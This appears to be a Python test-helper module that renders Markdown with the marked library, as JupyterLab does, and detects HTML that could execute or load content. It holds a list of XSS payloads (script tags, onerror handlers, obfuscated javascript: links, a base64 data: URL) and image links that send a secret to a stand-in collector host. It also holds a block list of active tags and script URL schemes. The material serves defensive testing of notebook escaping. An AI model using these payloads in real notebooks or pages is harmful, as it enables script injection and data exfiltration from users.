"""Markdown as a notebook renders it (marked, the library JupyterLab uses), and what in that HTML could act."""

from __future__ import annotations

import html
import json
import re
import subprocess
from html.parser import HTMLParser
from pathlib import Path

MARKED = Path(__file__).resolve().parents[1] / "js" / "node_modules" / "marked" / "lib" / "marked.cjs"
# Elements that run, load or embed something by being there.
ACTIVE_TAGS = frozenset(
    {
        "script",
        "img",
        "iframe",
        "object",
        "embed",
        "svg",
        "math",
        "style",
        "link",
        "meta",
        "base",
        "video",
        "audio",
        "source",
        "picture",
        "form",
        "input",
        "button",
        "frame",
        "frameset",
        "template",
    }
)
URL_ATTRIBUTES = frozenset(
    {"href", "src", "srcset", "action", "formaction", "xlink:href", "poster", "background"}
)
SCRIPT_SCHEMES = ("javascript:", "vbscript:", "data:")

# Replies that would act in a notebook if they reached its Markdown as written (the first is the attack
# of the security review); each tries another way past an escaping rule.
HOSTILE_MARKDOWN = [
    "<script>alert(1)</script>\n\n<img src=x onerror=alert(1)>\n\n[x](javascript:alert(1))",
    "Look: <img src=x onerror=alert(1)> inline",
    "<svg onload=alert(1)>",
    '<div>\n<a href="javascript:alert(1)">x</a>\n</div>',
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    '[x](javascript:alert(1) "title")',
    "[x](\njavascript:alert(1))",
    "[x]( vbscript:msgbox(1))",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]:\n  javascript:alert(1)",
    "<javascript:alert(1)>",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](https://collector.example/?secret=abc)",
    "!![x](https://collector.example/?secret=abc) \\!![y](https://collector.example/)",
    "![x][r]\n\n[r]: https://collector.example/?secret=abc",
    "\\\\<img src=x onerror=alert(1)>",
    "`\\`<img src=x onerror=alert(1)>`",
    "| a | b |\n|---|---|\n| `c | <img src=x onerror=alert(1)> ` | d |",
    "- item\n  ```\n<img src=x onerror=alert(1)>\n  ```",
    "> quote\n> ```\n> <img src=x onerror=alert(1)>\n> ```",
    "```\n<img src=x onerror=alert(1)>",
    "~~~\n```\n~~~\n<img src=x onerror=alert(1)>",
    "````\n```\n<img src=x onerror=alert(1)>\n```\n````\n<img src=x onerror=alert(2)>",
    "    indented <img src=x onerror=alert(1)>\n<img src=x onerror=alert(2)>",
    # marked lets a reference's title run across a fence and end inside the code, which then is prose.
    '[a]: /url "title\n```\n"\n<img src=x onerror=alert(1)>\n```\n\n[a]',
    "[a]: /url 'title\n```\n'\n[x](javascript:alert(1))\n```\n\n[a]",
]


def render_with_marked(markdown: str) -> str:
    """The HTML marked makes of `markdown` with GitHub-flavoured Markdown on, as in JupyterLab."""
    return render_all_with_marked([markdown])[0]


def render_all_with_marked(texts: list[str]) -> list[str]:
    """`render_with_marked` of each text, in one run of node."""
    if not MARKED.is_file():
        raise AssertionError(
            f"{MARKED} is missing: the front end's packages are not installed. `bash tests/run.sh` installs "
            "everything the tests need (or run `npm ci` in js/)."
        )
    script = (
        f"const {{ marked }} = require({json.dumps(str(MARKED))});"
        "let text = ''; process.stdin.on('data', (d) => (text += d));"
        "process.stdin.on('end', () => process.stdout.write(JSON.stringify("
        "JSON.parse(text).map((t) => marked.parse(t, { gfm: true })))));"
    )
    done = subprocess.run(
        ["node", "-e", script],
        input=json.dumps(texts),
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
    )
    return json.loads(done.stdout)


class _Live(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ACTIVE_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}=…>")
            # A browser drops tabs, line breaks and leading spaces or control characters from a URL.
            url = "".join(c for c in (value or "") if c > " ").lower()
            if name in URL_ATTRIBUTES and url.startswith(SCRIPT_SCHEMES):
                self.found.append(f"<{tag} {name}={value}>")


def live_markup(html: str) -> list[str]:
    """The elements and attributes in `html` that would run, load or embed something; empty when inert."""
    parser = _Live()
    parser.feed(html)
    parser.close()
    return parser.found


def live_in_markdown(markdown: str) -> list[str]:
    """What would act once a notebook rendered `markdown`."""
    return live_markup(render_with_marked(markdown))


def visible_text(rendered: str) -> str:
    """The text a person reads in rendered HTML (tags left out, references resolved)."""
    return html.unescape(re.sub(r"<[^>]+>", "", rendered))


class _Dollars(HTMLParser):
    """The text outside code of rendered HTML, where MathJax looks for `$…$`."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.code = 0
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.code += tag in ("code", "pre")

    def handle_endtag(self, tag: str) -> None:
        self.code -= tag in ("code", "pre")

    def handle_data(self, data: str) -> None:
        if not self.code:
            self.text.append(data)


def typeset_dollars(markdown: str) -> list[str]:
    """Each `$` a notebook's MathJax would take for the start or end of a formula once `markdown` is
    rendered, with the text around it: every `$` outside code that no backslash escapes."""
    parser = _Dollars()
    parser.feed(render_with_marked(markdown))
    parser.close()
    text = "".join(parser.text)
    return [text[max(0, m.start() - 20) : m.end() + 20] for m in re.finditer(r"(?<!\\)\$", text)]
